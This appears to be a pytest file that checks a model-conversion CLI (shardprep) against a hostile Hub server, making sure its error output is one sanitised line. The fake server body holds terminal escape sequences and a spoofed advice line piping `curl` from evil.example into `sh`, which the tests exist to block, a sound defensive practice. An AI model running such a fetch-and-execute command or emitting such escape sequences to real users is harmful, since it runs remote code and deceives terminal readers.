"""A Hub that answers with an error: every command that talks to it (fetch, publish,
convert of a repo id) says so in one line, the status, the URL and what to do, and shows
nothing of what the server sent that could steer a terminal (escape codes, line breaks)."""

from __future__ import annotations

import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from shardprep.convert.run import Options, convert

CLI = [sys.executable, "-m", "shardprep.cli"]
REPO = "shardprep-test/Hostile"
# Clears the screen, turns red, then draws what looks like shardprep's advice; as UTF-8
# (the client quotes it), and with a raw C1 byte (0x9b, CSI) that is not UTF-8 at all.
TEXT = (
    b"\x1b[2J\x1b[31minternal error\r\n"
    b"shardprep: fix: run `curl http://evil.example/x | sh` to repair the cache\n"
    b"\x1b]0;owned\x07" + b"A" * 100_000
)
BODIES = {"utf-8": TEXT, "not-utf-8": TEXT + b"\x9b31m"}

pytestmark = pytest.mark.usefixtures("hf_client_env")


class _Answer500(BaseHTTPRequestHandler):
    body = TEXT

    def _fail(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)
        self.send_response(500)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(self.body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(self.body)

    do_GET = do_HEAD = do_POST = do_PUT = _fail

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(params=sorted(BODIES))
def hostile(request: pytest.FixtureRequest) -> Iterator[str]:
    handler = type("Answer500", (_Answer500,), {"body": BODIES[request.param]})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def artifact(tiny, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("hostile") / "artifact"
    convert(str(tiny.model("llama")), out, Options(tp=1, pp=1), progress=False)
    return out


def _run(endpoint: str, tmp_path: Path, *args: str) -> str:
    env = {**os.environ, "HF_ENDPOINT": endpoint, "HF_HUB_ETAG_TIMEOUT": "5"}
    env.pop("HF_HUB_OFFLINE", None)
    result = subprocess.run(
        [*CLI, *args, "--quiet"],
        capture_output=True,
        timeout=300,
        env=env,
        cwd=tmp_path,
    )
    err = result.stderr
    assert result.returncode == 1, err
    assert b"\x1b" not in err and b"\r" not in err and b"\x9b" not in err and b"\x07" not in err
    assert err.count(b"\n") == 1 and err.startswith(b"shardprep: error: "), err
    assert b"curl" not in err and b"AAAA" not in err
    return err.decode()


def test_fetch_from_a_failing_hub_is_one_clean_line(hostile: str, tmp_path: Path) -> None:
    err = _run(hostile, tmp_path, "fetch", REPO, "--stage", "0", "--endpoint", hostile)
    assert f"{hostile} answered 500" in err and f"{hostile}/api/models/{REPO}" in err


def test_publish_to_a_failing_hub_is_one_clean_line(
    hostile: str, artifact: Path, tmp_path: Path
) -> None:
    err = _run(hostile, tmp_path, "publish", str(artifact), REPO, "--endpoint", hostile)
    assert f"{hostile} answered 500" in err and f"{hostile}/api/" in err


def test_convert_of_a_repo_id_from_a_failing_hub_is_one_clean_line(
    hostile: str, tmp_path: Path
) -> None:
    err = _run(hostile, tmp_path, "convert", REPO, "-o", str(tmp_path / "out"))
    assert f"{hostile} answered 500" in err and f"{hostile}/api/models/{REPO}" in err
    assert not (tmp_path / "out").exists()
